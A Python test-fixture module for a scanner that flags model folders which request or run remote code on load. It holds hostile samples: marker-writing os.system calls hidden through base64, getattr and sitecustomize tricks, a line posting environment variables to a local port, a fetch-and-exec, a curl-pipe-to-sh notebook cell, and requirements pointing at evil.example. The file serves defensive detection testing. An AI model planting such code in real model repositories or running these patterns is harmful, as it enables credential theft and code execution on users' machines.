"""Code that comes with a model: what asks for it, in every configuration that is known, and the code itself."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from . import Case, write_json

Build = Callable[[Path], None]
Files = dict[str, Any]

TOUCH = 'import os\nopen(os.environ["WEIGHTSMITH_MARKER"], "w").close()\n'
SYSTEM = 'import os\nos.system(\'touch "$WEIGHTSMITH_MARKER"\')\n'
MODELING = '''"""A model of its own."""
import math
from typing import Optional

import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel
from transformers.utils import logging

from .configuration_mini import MiniConfig

logger = logging.get_logger(__name__)


class MiniForCausalLM(PreTrainedModel):
    config_class = MiniConfig

    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(config.hidden_size, config.hidden_size)
        self.model.eval()

    def forward(self, input_ids: Optional[torch.Tensor] = None):
        return self.layer(input_ids) / math.sqrt(2)
'''
CONFIGURATION = '''from transformers import PretrainedConfig


class MiniConfig(PretrainedConfig):
    model_type = "mini"

    def __init__(self, hidden_size=8, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''
#: imports a file of the folder as a loader with consent does, by its own path
IMPORT = """
import importlib.util, sys
spec = importlib.util.spec_from_file_location("remote", str(folder / FILE))
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
"""
#: loads the configuration with transformers, consent given
TRANSFORMERS = """
from transformers import AutoConfig
AutoConfig.from_pretrained(str(folder), trust_remote_code=True)
"""


def files(content: Files) -> Build:
    """Files by name: text, bytes, or a value that becomes JSON."""

    def build(folder: Path) -> None:
        for name, value in content.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            if isinstance(value, str):
                (folder / name).write_text(value, encoding="utf-8")
            elif isinstance(value, bytes):
                (folder / name).write_bytes(value)
            else:
                write_json(folder / name, value)

    return build


def _config(**more: Any) -> dict[str, Any]:
    return {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "torch_dtype": "bfloat16", **more}


def _asks(name: str, content: Files, rule: str = "remote-code", verdict: str = "suspicious", see: str = "") -> Case:
    return Case(f"remote-{name}", files(content), verdict, (rule,), see=see)


_AUTO = {"AutoConfig": "configuration_mini.MiniConfig", "AutoModelForCausalLM": "modeling_mini.MiniForCausalLM"}
ASKING = [
    _asks("auto-map", {"config.json": _config(auto_map=_AUTO), "modeling_mini.py": MODELING, "configuration_mini.py":
          CONFIGURATION},
          see="CVE-2026-22807"),
    _asks("auto-map-without-file", {"config.json": _config(auto_map=_AUTO)}),
    _asks("auto-map-elsewhere", {"config.json": _config(auto_map={"AutoModel": "mallory/code--modeling.Model"})},
          "remote-code-elsewhere"),
    _asks("auto-map-nested", {"config.json": _config(text_config={"model_type": "x", "auto_map": _AUTO})}, see="CVE-2026-5241"),
    _asks("auto-map-in-list", {"config.json": _config(backbones=[{"auto_map": {"AutoModel": "a.B"}}])}),
    _asks("auto-map-twice", {"config.json": '{"model_type": "llama", "auto_map": {"AutoModel": "a.B"}, "auto_map": {}}'},
          verdict="suspicious"),
    _asks("auto-map-escaped", {"config.json": '{"model_type": "llama", "\\u0061uto_map": {"AutoModel": "a.B"}}'}),
    _asks("auto-map-tokenizer", {"tokenizer_config.json": {"tokenizer_class": "Mine", "auto_map": {"AutoTokenizer":
          ["tok.Mine", None]}}}),
    _asks("auto-map-tokenizer-list", {"tokenizer_config.json": {"auto_map": ["tok.Mine", None]}}),
    _asks("auto-map-processor", {"processor_config.json": {"auto_map": {"AutoProcessor": "processing_mini.MiniProcessor"}}}),
    _asks("auto-map-preprocessor", {"preprocessor_config.json": {"auto_map": {"AutoImageProcessor": "image_mini.Mini"}}}),
    _asks("auto-map-video", {"video_preprocessor_config.json": {"auto_map": {"AutoVideoProcessor": "video_mini.Mini"}}}),
    _asks("auto-map-generation", {"generation_config.json": {"auto_map": {"AutoModel": "a.B"}}}),
    _asks("auto-map-below", {"vision/config.json": _config(auto_map={"AutoModel": "a.B"})}),
    _asks("custom-pipelines", {"config.json": _config(custom_pipelines={"mine": {"impl": "pipe.Mine", "pt": ["AutoModel"]}})}),
    _asks("custom-generate", {"config.json": _config(), "custom_generate/generate.py": "def generate(model, **kwargs):\n    "
          "return None\n"}),
    _asks("custom-generate-elsewhere", {"generation_config.json": {"custom_generate": "mallory/decoding"}},
          "remote-code-elsewhere"),
    _asks("consent", {"config.json": _config(trust_remote_code=True)}, "consent-in-config", see="CVE-2026-5241"),
    _asks("consent-nested", {"config.json": _config(keypoint_detector_config={"trust_remote_code": True})}, "consent-in-config",
          see="CVE-2026-5241"),
    _asks("kernel-internal", {"config.json": _config(_attn_implementation_internal="mallory/kernel")}, "remote-kernel",
          see="CVE-2026-4372"),
    _asks("kernel", {"config.json": _config(_attn_implementation="mallory/attention@v1:forward")}, "remote-kernel",
          see="CVE-2026-4372"),
    _asks("kernel-nested", {"config.json": _config(text_config={"attn_implementation": "mallory/attention"})}, "remote-kernel"),
    _asks("kernel-experts", {"config.json": _config(_experts_implementation_internal="mallory/moe")}, "remote-kernel"),
    _asks("kernel-paged", {"config.json": _config(attn_implementation="paged|mallory/attention")}, "remote-kernel"),
    _asks("kernel-mapping", {"config.json": _config(kernel_config={"RMSNorm": "mallory/norm:RMSNorm"})}, "remote-kernel"),
    _asks("kernel-by-part", {"config.json": _config(attn_implementation={"text_config": "mallory/attention"})},
          "remote-kernel"),
    _asks("sentence-module", {"modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]}),
    _asks("sentence-module-elsewhere", {"modules.json": [{"idx": 0, "path": "", "type": "mallory/st--custom_st.Transformer"}]},
          "remote-code-elsewhere"),
    _asks("sentence-module-system", {"modules.json": [{"idx": 0, "path": "", "type": "os.system"}]}, "config-calls",
          "malicious"),
    _asks("sentence-activation", {"2_Dense/config.json": {"in_features": 4, "activation_function": "evil.activation.Tanh"}},
          "config-imports"),
    _asks("sentence-activation-system", {"2_Dense/config.json": {"activation_function": "os.system"}}, "config-calls",
          "malicious"),
    _asks("diffusers-part", {"model_index.json": {"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "Unet"]},
                             "unet/my_unet.py": "class Unet:\n    pass\n"}),
    _asks("diffusers-pipeline", {"model_index.json": {"_class_name": ["pipeline", "Mine"], "unet": ["diffusers",
          "UNet2DModel"]}}),
    _asks("diffusers-elsewhere", {"model_index.json": {"_class_name": "X", "vae": ["mallory/vae", "VAE"]}},
          "remote-code-elsewhere"),
    _asks("hydra-target", {"config.json": _config(head={"_target_": "evil.make"})}, "config-imports"),
    _asks("hydra-system", {"config.json": _config(hook={"_target_": "os.system", "command": "id"})}, "config-calls",
          "malicious"),
    _asks("hydra-yaml", {"model_config.yaml": "model:\n  encoder:\n    _target_: subprocess.Popen\n    args: [id]\n"},
          "config-calls",
          "malicious"),
    _asks("hydra-yaml-unknown", {"model_config.yaml": "model:\n  _target_: evil.package.Model\n"}, "config-imports"),
    _asks("mlx-model-file", {"config.json": _config(model_file="model.py"), "model.py": "class Model:\n    pass\n"},
          see="CVE-2026-5843"),
    _asks("peft-library", {"adapter_config.json": {"peft_type": "LORA", "auto_mapping": {"base_model_class": "X",
                           "parent_library": "evil_modules.modeling"}}}, "config-imports"),
    _asks("class-and-module", {"config.json": _config(head={"class_name": "Head", "module": "heads.custom"})},
          "config-imports"),
    _asks("tokenizer-path", {"tokenizer_config.json": {"tokenizer_class": "mallory/code--tok.Tok"}}, "remote-code-elsewhere"),
    _asks("architecture-path", {"config.json": _config(architectures=["evil_plugin:Model"])}, "config-imports"),
    _asks("unknown-key-script", {"config.json": _config(postprocess_script="post.py"), "post.py": "x = 1\n"}),
    _asks("unknown-key-elsewhere", {"config.json": _config(scorer="mallory/code--score.Scorer")}, "remote-code-elsewhere"),
    _asks("unknown-key-builtin", {"generation_config.json": {"stopping": "builtins.exec"}}, "config-calls", "malicious"),
    _asks("handler-in-config", {"config.json": _config(handler="serve.handlers.run")}, "config-imports"),
    _asks("requirements", {"requirements.txt": "torch\nflash-thing @ git+https://evil.example/x.git\n"},
          "requirements-elsewhere"),
    _asks("requirements-index", {"custom_generate/requirements.txt": "--extra-index-url https://evil.example/simple\nfoo\n"},
          "requirements-elsewhere"),
]  # fmt: skip


def _acts(name: str, source: str | bytes, rule: str = "python-hostile", verdict: str = "malicious", *, asked: bool = True,
          file: str = "modeling_mini.py", fires: str = IMPORT) -> Case:  # fmt: skip
    config = _config(auto_map={"AutoModel": "modeling_mini.Mini"}) if asked else _config()
    return Case(f"remote-python-{name}", files({"config.json": config, file: source}), verdict, (rule,),
                fires.replace("FILE", repr(file)) if fires else "")  # fmt: skip


_B64 = "aW1wb3J0IG9zO29wZW4ob3MuZW52aXJvblsiV0VJR0hUU01JVEhfTUFSS0VSIl0sInciKS5jbG9zZSgp"
_SUB = "subprocess.run(['touch', os.environ['WEIGHTSMITH_MARKER']])"
ACTING = [
    Case("remote-auto-map-fires", files({"config.json": {"model_type": "mini", "auto_map": {"AutoConfig":
          "configuration_mini.MiniConfig"}},
         "configuration_mini.py": SYSTEM + CONFIGURATION}), "malicious", ("python-hostile",), TRANSFORMERS,
         needs=("transformers",)),
    _acts("system", SYSTEM),
    _acts("writes", TOUCH, "python-risky", "suspicious"),
    _acts("subprocess", "import os, subprocess\n" + _SUB + "\n"),
    _acts("subprocess-renamed", "import os\nfrom subprocess import run as norm\nnorm(['touch', "
          "os.environ['WEIGHTSMITH_MARKER']])\n"),
    _acts("exec-base64", f"import base64\nexec(base64.b64decode('{_B64}'))\n"),
    _acts("eval-import", "eval('__import__(\"os\").system(\\'touch \"$WEIGHTSMITH_MARKER\"\\')'+'')\n"),
    _acts("import-call", "__import__('os').system('touch \"$WEIGHTSMITH_MARKER\"')\n"),
    _acts("getattr", "import os\ngetattr(os, 'sys' + 'tem')('touch \"$WEIGHTSMITH_MARKER\"')\n"),
    _acts("importlib", "import importlib\nimportlib.import_module('o' + 's').system('touch \"$WEIGHTSMITH_MARKER\"')\n"),
    _acts("in-class-body", "import os\nclass Mini:\n    x = os.system('touch \"$WEIGHTSMITH_MARKER\"')\n"),
    _acts("in-decorator", "import os\ndef now(f):\n    os.system('touch \"$WEIGHTSMITH_MARKER\"')\n    return f\n@now\ndef "
          "g():\n    pass\n"),
    _acts("in-default", "import os\ndef f(x=os.system('touch \"$WEIGHTSMITH_MARKER\"')):\n    pass\n"),
    _acts("through-functions", "import os\ndef a():\n    b()\ndef b():\n    os.system('touch \"$WEIGHTSMITH_MARKER\"')\na()\n"),
    _acts("through-class", "import os\nclass A:\n    def __init__(self):\n        os.popen('touch "
          "\"$WEIGHTSMITH_MARKER\"').read()\nA()\n"),
    _acts("lambda", "import os\n(lambda: os.system('touch \"$WEIGHTSMITH_MARKER\"'))()\n"),
    _acts("in-try", "try:\n    import flash_attn\nexcept ImportError:\n    import os\n    os.system('touch "
          "\"$WEIGHTSMITH_MARKER\"')\n"),
    _acts("alias", "import os\nf = os.system\nf('touch \"$WEIGHTSMITH_MARKER\"')\n"),
    _acts("socket", "import socket\ns = socket.create_connection(('127.0.0.1', 9))\n", fires=""),
    _acts("posts", "import os, requests\nrequests.post('http://127.0.0.1:9', json=dict(os.environ))\n", fires=""),
    _acts("fetches-and-runs", "import urllib.request\ndef f():\n    "
          "exec(urllib.request.urlopen('http://127.0.0.1:9').read())\n", fires=""),
    _acts("marshal", "import marshal\ndef f(x):\n    return exec(marshal.loads(x))\n", "python-risky", "suspicious", fires=""),
    _acts("ctypes", "import ctypes\nlib = ctypes.CDLL('./x.so')\n", "python-risky", "suspicious", fires=""),
    _acts("system-when-called", "import os\nclass Mini:\n    def forward(self):\n        os.system('id')\n", "python-risky",
          "suspicious",
          fires=""),
    _acts("gadgets", "x = ().__class__.__base__.__subclasses__()\n", "python-risky", "suspicious", fires=""),
    _acts("encoding", b"# -*- coding: utf-7 -*-\nx = 1\n", "python-risky", "suspicious", fires=""),
    _acts("not-python", "class Mini(:\n", "python-not-read", "could not tell", fires=""),
    _acts("shebang", "#!/usr/bin/env python\n" + SYSTEM),
    _acts("imported-beside", SYSTEM, file="configuration_mini.py"),
    _acts("unasked", SYSTEM, asked=False, file="convert.py"),
    _acts("site", TOUCH, "python-shadows", "suspicious", asked=False, file="sitecustomize.py",
          fires="import sys\nsys.path.insert(0, str(folder))\nsys.modules.pop('sitecustomize', None)\nimport sitecustomize\n"),
    _acts("shadow", "def load(*a):\n    pass\n", "python-shadows", "suspicious", asked=False, file="torch.py", fires=""),
    _acts("path-file", "import os; open(os.environ['WEIGHTSMITH_MARKER'], 'w').close()\n", "python-path-file", asked=False,
          file="training.pth", fires="import site\nsite.addpackage(str(folder), 'training.pth', set())\n"),
    _acts("notebook", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code",
          "source": [
          "!curl http://127.0.0.1:9/x | sh\n"]}]}), "python-risky", "suspicious", asked=False, file="demo.ipynb", fires=""),
    _acts("notebook-exec", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code",
          "source":
          "import base64\nexec(base64.b64decode('eA=='))"}]}), "python-risky", "suspicious", asked=False, file="demo.ipynb",
          fires=""),
]  # fmt: skip


def _honest(name: str, content: Files) -> Case:
    return Case(f"remote-honest-{name}", files(content))


_ST = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
       {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
       {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"}]  # fmt: skip
HONEST = [
    _honest("empty-auto-map", {"config.json": _config(auto_map={})}),
    _honest("attention", {"config.json": _config(_attn_implementation="flash_attention_2", _attn_implementation_autoset=True)}),
    _honest("attention-by-part", {"config.json": _config(attn_implementation={"text_config": "sdpa", "vision_config":
          "eager"})}),
    _honest("no-consent", {"config.json": _config(trust_remote_code=False)}),
    _honest("qwen", {"config.json": {"architectures": ["Qwen2ForCausalLM"], "hidden_act": "silu", "model_type": "qwen2",
                     "rope_scaling": {"type": "yarn", "factor": 4.0}, "torch_dtype": "bfloat16", "_name_or_path":
                     "Qwen/Qwen2.5-7B"}}),
    _honest("gptq", {"config.json": _config(quantization_config={"quant_method": "gptq", "bits": 4, "meta": {"quantizer": [
                     "gptqmodel:1.4.0"]}, "checkpoint_format": "gptq", "modules_in_block_to_quantize":
                     [["self_attn.k_proj"]]})}),
    _honest("compressed", {"config.json": _config(quantization_config={"quant_method": "compressed-tensors", "ignore":
          ["lm_head"],
                           "config_groups": {"group_0": {"targets": ["Linear"], "weights": {"observer": "minmax"}}}})}),
    _honest("bitsandbytes", {"config.json": _config(quantization_config={"quant_method": "bitsandbytes", "load_in_4bit": True,
                             "bnb_4bit_quant_storage": "uint8", "llm_int8_skip_modules": None})}),
    _honest("sentence-transformers", {"modules.json": _ST, "config_sentence_transformers.json": {"__version__": {
            "sentence_transformers": "3.0.1", "transformers": "4.41.2", "pytorch": "2.3.0"}, "prompts": {}},
            "1_Pooling/config.json": {"word_embedding_dimension": 8, "pooling_mode_mean_tokens": True}}),
    _honest("sentence-dense", {"modules.json": [{"idx": 0, "path": "2_Dense", "type": "sentence_transformers.models.Dense"}],
            "2_Dense/config.json": {"in_features": 4, "activation_function": "torch.nn.modules.activation.Tanh"}}),
    _honest("sentence-router", {"router_config.json": {"types": {
            "query_0": "sentence_transformers.sparse_encoder.models.SparseStaticEmbedding.SparseStaticEmbedding"},
            "structure": {}}}),
    _honest("cross-encoder", {"config.json": _config(sentence_transformers={"activation_fn":
          "torch.nn.modules.linear.Identity"})}),
    _honest("pylate", {"modules.json": [{"idx": 1, "path": "1_Dense", "type": "pylate.models.Dense.Dense"}]}),
    _honest("diffusers", {"model_index.json": {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
            "feature_extractor": ["transformers", "CLIPImageProcessor"], "safety_checker": ["stable_diffusion",
            "StableDiffusionSafetyChecker"], "unet": ["diffusers", "UNet2DConditionModel"], "image_encoder": [None, None],
            "requires_safety_checker": True}, "unet/config.json": {"_class_name": "UNet2DConditionModel", "act_fn": "silu",
            "down_block_types": ["CrossAttnDownBlock2D"], "sample_size": 64}}),
    _honest("diffusers-onnx", {"model_index.json": {"_class_name": "OnnxStableDiffusionPipeline", "unet":
          ["onnxruntime.modeling_ort",
            "ORTModel"]}}),
    _honest("peft", {"adapter_config.json": {"peft_type": "LORA", "base_model_name_or_path": "meta-llama/Llama-3.1-8B", "r": 8,
            "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM", "auto_mapping": {"base_model_class":
            "LlamaForCausalLM",
            "parent_library": "transformers.models.llama.modeling_llama"}, "loftq_config": {}}}),
    _honest("peft-regex", {"adapter_config.json": {"peft_type": "LORA", "target_modules":
          r"model\.layers\.\d+\.mlp\.(?:up|down)_proj",
            "modules_to_save": ["classifier", "score"]}}),
    _honest("timm", {"config.json": {"architecture": "resnet18.a1_in1k", "num_classes": 1000, "pretrained_cfg": {
            "tag": "a1_in1k", "custom_load": False, "classifier": "fc", "first_conv": "conv1", "url":
            "https://github.com/x/y.pth"}}}),
    _honest("open-clip", {"open_clip_config.json": {"model_cfg": {"embed_dim": 8, "text_cfg": {"hf_model_name":
          "xlm-roberta-base"}}}}),
    _honest("whisper", {"preprocessor_config.json": {"feature_extractor_type": "WhisperFeatureExtractor", "processor_class":
            "WhisperProcessor", "sampling_rate": 16000}, "generation_config.json": {"task_to_id": {"translate": 50358}}}),
    _honest("llava", {"processor_config.json": {"image_token": "<image>", "patch_size": 14, "processor_class":
          "LlavaProcessor"}}),
    _honest("tokenizer", {"tokenizer_config.json": {"tokenizer_class": "LlamaTokenizerFast", "model_input_names": ["input_ids"],
            "added_tokens_decoder": {"0": {"content": "<|os.system|>", "special": True}}, "name_or_path": "meta/llama"}}),
    _honest("vocabulary", {"vocab.json": {"auto_map": 1, "os.system": 2, "a--b.C": 3}}),
    _honest("index", {"model.safetensors.index.json.txt": "weight_map: a.b.c\n"}),
    _honest("nemo", {"model_config.yaml": "encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\noptim:\n  "
          "name: adamw\n"}),
    _honest("lightning", {"hparams.yaml": "callbacks:\n- class_path: lightning.pytorch.callbacks.ModelCheckpoint\n"}),
    _honest("axolotl", {"axolotl_config.yaml": "base_model: x/y\ntrust_remote_code: true\nload_in_8bit: false\n"}),
    _honest("training-args", {"training_args.json": {"optim": "adamw_torch", "trust_remote_code": False, "output_dir": "out"}}),
    _honest("trainer-state", {"trainer_state.json": {"best_metric": None, "log_history": [{"loss": 1.0, "step": 1}]}}),
    _honest("setfit", {"config_setfit.json": {"normalize_embeddings": False, "labels": ["a.b", "c"]}}),
    _honest("gliner", {"gliner_config.json": {"model_name": "microsoft/deberta-v3-small", "span_mode": "markerV0"}}),
    _honest("recipe", {"mergekit_config.yml": "models:\n  - model: a/b\nmerge_method: slerp\nbase_model: a/b\ndtype: "
          "bfloat16\n"}),
    _honest("requirements", {"requirements.txt": "torch>=2.1\ntransformers==4.44.0\naccelerate\n"}),
    _honest("requirements-torch", {"requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n"}),
    _honest("unasked-modeling", {"config.json": _config(), "modeling_mini.py": MODELING, "configuration_mini.py":
          CONFIGURATION}),
    _honest("script", {"config.json": _config(), "scripts/infer.py": "import sys\nfrom transformers import pipeline\n\nif "
          "__name__ == "
            "'__main__':\n    pipe = pipeline('text-generation', sys.argv[1])\n    print(pipe('hi'))\n"}),
    _honest("convert-script", {"convert.py": "import argparse\nimport subprocess\nimport torch\n\n\ndef main():\n    state = "
          "torch.load("
            "'x.bin', weights_only=True)\n    subprocess.run(['ls'])\n\n\nif __name__ == '__main__':\n    main()\n"}),
    _honest("handler", {"handler.py": "from transformers import pipeline\n\n\nclass EndpointHandler:\n    def __init__(self, "
          "path=''):\n"
            "        self.pipe = pipeline('text-generation', path)\n\n    def __call__(self, data):\n        return "
            "self.pipe(data['inputs'])\n"}),
    _honest("empty-init", {"config.json": _config(), "__init__.py": ""}),
    _honest("old-python", {"train.py": "print 'hello'\n"}),
    _honest("notebook", {"demo.ipynb": {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
            {"cell_type": "markdown", "source": ["# Demo"]}, {"cell_type": "code", "source": [
                "!pip install transformers\n", "from transformers import pipeline\n"], "outputs": [], "execution_count":
                None}]}}),
    _honest("model-card", {"README.md": "---\nlicense: apache-2.0\nlibrary_name: transformers\n---\nUse "
          "`trust_remote_code=True`.\n"}),
]  # fmt: skip
CASES = [*ASKING, *ACTING, *HONEST]
